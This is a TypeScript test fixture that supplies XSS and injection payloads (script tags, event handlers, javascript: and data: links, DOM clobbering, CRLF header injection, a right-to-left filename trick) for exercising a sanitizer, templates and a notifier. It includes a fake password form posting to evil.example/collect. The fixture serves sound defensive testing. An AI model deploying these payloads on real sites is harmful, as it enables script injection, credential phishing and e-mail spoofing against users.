/**
 * Attack strings planted in the demo world so the sanitizer, the templates and the notifier are
 * exercised by the same data a malicious GitHub user could post. Every payload carries the marker
 * `XSS-PROBE` so tests can find where each one ended up (and prove it never runs).
 */

export const HOSTILE_MARKER = 'XSS-PROBE';

const DATA_URL_SCRIPT = Buffer.from(`<script>alert('${HOSTILE_MARKER}')</script>`).toString('base64');

/** Payloads placed in Markdown bodies (issues, Discussions, comments, release notes). */
export const BODY_PAYLOADS = {
  script: `<script>alert('${HOSTILE_MARKER}')</script>`,
  imgOnerror: `<img src=x onerror=alert('${HOSTILE_MARKER}')>`,
  javascriptLink: `[click here for the demo](javascript:alert('${HOSTILE_MARKER}'))`,
  javascriptAutolink: `<javascript:alert('${HOSTILE_MARKER}')>`,
  dataUrlLink: `<a href="data:text/html;base64,${DATA_URL_SCRIPT}">${HOSTILE_MARKER} open the preview</a>`,
  iframe: `<iframe src="https://evil.example/${HOSTILE_MARKER}" width="800" height="600"></iframe>`,
  svgOnload: `<svg onload=alert('${HOSTILE_MARKER}')><circle r="10"/></svg>`,
  style: `<style>body{display:none} /* ${HOSTILE_MARKER} */</style>`,
  form: `<form action="https://evil.example/collect"><input name="password" type="password" placeholder="${HOSTILE_MARKER} re-enter your GitHub password"><button>Sign in</button></form>`,
  idClobbering: `<a id="top" name="top" href="#">${HOSTILE_MARKER} clobbered anchor</a><img id="getElementById" name="cookie" src="https://example.com/x.png" alt="${HOSTILE_MARKER}">`,
  commentHidingMarkup: `<!-- ${HOSTILE_MARKER} --><img src=x onerror=alert(1)><!--><script>alert('${HOSTILE_MARKER}')</script>-->`,
  linkTitleAttribute: `[docs](https://example.com/docs "onmouseover=alert('${HOSTILE_MARKER}')")`,
  headerInjection: `Thanks @mira-okafor\r\nBcc: victim@example.com\r\nSubject: ${HOSTILE_MARKER} you won`,
} as const;
export type BodyPayloadKind = keyof typeof BODY_PAYLOADS;

const LONG_TITLE_START = `Very long title ${HOSTILE_MARKER}: support configuring every single option of the build pipeline from front matter `;

/** Titles: what ends up in `<title>`, Open Graph tags, feeds, e-mail subjects and headers. */
export const TITLE_PAYLOADS = {
  closesTitleTag: `Custom page titles </title><script>alert('${HOSTILE_MARKER}')</script>`,
  quotesAndBrackets: `Allow "quoted" and 'single-quoted' <values> & ampersands in front matter ${HOSTILE_MARKER}`,
  headerInjection: `Notify subscribers by e-mail ${HOSTILE_MARKER}\r\nBcc: victim@example.com`,
  rightToLeftOverride: `Support \u202Efdp.exe\u202C attachments in posts ${HOSTILE_MARKER}`,
  zeroWidthAndEmoji: `Emoji 👩\u200D💻 and zero\u200Dwidth\u200Bjoiners in slugs 🚀✨ ${HOSTILE_MARKER}`,
  // GitHub caps titles at 256 characters; this one uses all of them.
  veryLong: (LONG_TITLE_START + 'and from data files and from environment variables and from the command line, with precedence rules '.repeat(3)).slice(0, 256),
} as const;
export type TitlePayloadKind = keyof typeof TITLE_PAYLOADS;

/** A body that wraps payloads in the kind of text an attacker would use to look innocent. */
export function hostileBody(kinds: readonly BodyPayloadKind[]): string {
  const parts = kinds.map((kind) => BODY_PAYLOADS[kind]);
  return `I put together a small demo of what I mean:\n\n${parts.join('\n\n')}\n\nLet me know what you think!`;
}
